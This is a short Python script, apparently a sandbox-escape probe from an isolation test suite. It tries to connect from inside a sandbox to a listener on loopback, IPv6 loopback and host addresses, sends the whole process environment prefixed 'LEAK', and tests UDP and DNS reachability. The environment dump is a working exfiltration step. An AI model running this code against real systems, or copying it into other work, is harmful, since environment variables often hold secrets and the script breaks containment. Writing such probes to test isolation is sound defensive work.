# uses: bypass
# Reach the parent's listener on loopback (IPv4/IPv6) and any host address; UDP too.
import socket
for fam, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "0.0.0.0")) + tuple(
        (socket.AF_INET, h) for h in CFG["host_ips"]):
    try:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect((host, CFG["port"]))
        s.sendall(b"LEAK " + str(__import__("os").environ).encode())
        print("CONNECTED", host)
    except OSError as e:
        print("no", host, e)
    try:
        u = socket.socket(fam, socket.SOCK_DGRAM)
        u.sendto(b"udp", (host, CFG["port"]))
        print("udp sent", host)
    except OSError as e:
        print("no udp", host, e)
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError as e:
    print("no dns", e)
